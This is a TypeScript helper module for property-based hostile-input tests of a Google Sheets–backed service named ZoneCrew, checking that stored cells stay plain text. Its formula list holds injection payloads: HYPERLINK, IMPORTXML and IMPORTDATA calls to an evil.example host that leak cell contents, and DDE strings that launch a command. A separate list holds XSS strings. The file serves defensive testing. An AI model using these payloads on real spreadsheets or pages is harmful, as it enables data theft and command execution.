/**
 * Shared pieces of the hostile-input tests (tests/workers/hostile-*.test.ts): what an attacker or
 * a careless paste puts into a cell, a body or a path; how to read what ZoneCrew stored in the
 * emulator cell by cell; and the JSON error shape every API refusal must have.
 *
 * Size: `npm test` runs these at CI size (fixed seeds, a few runs per property). Tests in the
 * workers pool cannot read `process.env`, so the run count is this constant: set FUZZ_SCALE to 10
 * (or 100) locally for a long run, e.g. `sed -i 's/FUZZ_SCALE = 1;/FUZZ_SCALE = 10;/'` and
 * `npx vitest run --project workers tests/workers/hostile-`, and put it back before committing.
 */
import fc from "fast-check";
import { expect } from "vitest";
import { sheetsCall } from "./emulator.ts";

export const FUZZ_SCALE = 1;

/** fast-check parameters: a fixed seed per property, `runs` scaled by FUZZ_SCALE. */
export function fuzz(seed: number, runs: number): fc.Parameters<unknown> {
  return { seed, numRuns: runs * FUZZ_SCALE, endOnFailure: true };
}

/** Google's limit for one cell; what ZoneCrew writes must fit, or Google refuses the whole batch. */
export const CELL_LIMIT = 50_000;

/** Texts that a spreadsheet (Sheets, Excel, LibreOffice) would run as a formula or a command. */
export const formulaLike = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点我 Click")',
  '=IMPORTXML("http://evil.example/x","//a")',
  '=IMPORTDATA("http://evil.example/c.csv")',
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-2+3",
  "+86 139 1234 5678",
  "=",
  "==",
  " =1+1",
  "\t=1+1",
  "'=1+1",
] as const;

export const formulaText = fc.constantFrom(...formulaLike);

/** Right-to-left, zero-width, bidi overrides, emoji sequences, combining marks, lone surrogates. */
const trickyUnicode = fc.constantFrom(
  "\u202Eevil\u202C",
  "مرحبا بالعالم",
  "שלום",
  "V0\u200B01",
  "\uFEFFV001",
  "王\u200D芳",
  "👩‍👩‍👧‍👦",
  "🏳️‍🌈",
  "e\u0301\u0301\u0301",
  "Z̷̢̛a̶l̵g̸o̴",
  "\uD800",
  "a\uDC00b",
  "\uDBFF\uDBFF",
  "\u0000",
  "\r\n",
  "ＰＨＯＮＥ１３８",
  "１３８００１３８０００",
);

/** Numbers, dates and booleans where text is expected, and the reverse. */
const confused = fc.constantFrom(
  "2022-04-19",
  "2022/4/19",
  "4月19日",
  "明天",
  "TRUE",
  "false",
  "是",
  "NaN",
  "Infinity",
  "-0",
  "1e308",
  "1,234.5",
  "0x1F",
  "#REF!",
  "#N/A",
  "Loading...",
  "null",
  "undefined",
  "[object Object]",
  "<script>alert(1)</script>",
  "\"'><img src=x onerror=alert(1)>",
);

const huge = fc.oneof(
  fc
    .constantFrom("号", "🌸", "=", "a")
    .chain((c) => fc.integer({ min: 1_000, max: CELL_LIMIT }).map((n) => c.repeat(Math.floor(n / c.length)))),
  fc.constant("x".repeat(CELL_LIMIT)),
);

/** Any text an organizer (or someone with edit access) could put in a cell. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: formulaText },
  { weight: 3, arbitrary: trickyUnicode },
  { weight: 3, arbitrary: confused },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  { weight: 1, arbitrary: huge },
  { weight: 1, arbitrary: fc.constantFrom("", " ", "\u3000") },
);

/** A value written through the Sheets API: text RAW (pasted) or USER_ENTERED (typed), or JSON number/boolean. */
export type CellInput = { text: string; typed: boolean } | number | boolean;

export const cellInput: fc.Arbitrary<CellInput> = fc.oneof(
  { weight: 6, arbitrary: fc.record({ text: hostileText, typed: fc.boolean() }) },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })) },
  { weight: 1, arbitrary: fc.boolean() },
);

/** One stored cell as `spreadsheets.get` with grid data returns it. */
export interface StoredCell {
  userEnteredValue?: { stringValue?: string; numberValue?: number; boolValue?: boolean; formulaValue?: string };
  formattedValue?: string;
}

/** The stored cells of an A1 range (e.g. "'问题 Problems'"), row by row. */
export async function storedCells(spreadsheetId: string, range: string): Promise<StoredCell[][]> {
  const response = await sheetsCall(
    spreadsheetId,
    "GET",
    `?includeGridData=true&ranges=${encodeURIComponent(range)}&fields=${encodeURIComponent("sheets.data.rowData.values(userEnteredValue,formattedValue)")}`,
  );
  expect(response.status).toBe(200);
  const body = (await response.json()) as {
    sheets?: Array<{ data?: Array<{ rowData?: Array<{ values?: StoredCell[] }> }> }>;
  };
  const rows = (body.sheets?.[0]?.data?.[0]?.rowData ?? []).map((r) => r.values ?? []);
  // The grid's empty rows below the data come back as {}; keep rows up to the last with a value.
  while (rows.length > 0 && !rows.at(-1)!.some((c) => c.userEnteredValue)) rows.pop();
  return rows;
}

/**
 * Every cell ZoneCrew wrote is text: no formula, no number or boolean that Sheets would
 * reinterpret, so a value starting with = + - @ stays the characters it was. And it fits a cell.
 */
export function expectAllText(cells: StoredCell[][], where: string): number {
  let checked = 0;
  cells.forEach((row, r) =>
    row.forEach((cell, c) => {
      const value = cell.userEnteredValue;
      if (!value) return;
      const at = `${where} row ${r + 1} column ${c + 1}`;
      expect(value.formulaValue, `${at} is a formula`).toBeUndefined();
      expect(Object.keys(value), at).toEqual(["stringValue"]);
      expect(value.stringValue!.length, `${at} is over Google's cell limit`).toBeLessThanOrEqual(CELL_LIMIT);
      checked += 1;
    }),
  );
  return checked;
}

/** The documented error body of the API: `{ error: { code, message, zh, en } }`, all non-empty text. */
export async function expectApiError(response: Response, what: string): Promise<{ code: string }> {
  expect(response.headers.get("content-type"), what).toMatch(/^application\/json/);
  const body = (await response.json()) as { error?: Record<string, unknown> };
  const error = body.error ?? {};
  for (const field of ["code", "message", "zh", "en"]) {
    expect(typeof error[field], `${what}: error.${field}`).toBe("string");
    expect((error[field] as string).length, `${what}: error.${field}`).toBeGreaterThan(0);
  }
  return error as { code: string };
}

/** Percent-encodes any text, lone surrogates included (as U+FFFD, as a browser would send them). */
export function percentEncode(text: string): string {
  return [...new TextEncoder().encode(text)]
    .map((b) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).toUpperCase().padStart(2, "0")}`,
    )
    .join("");
}
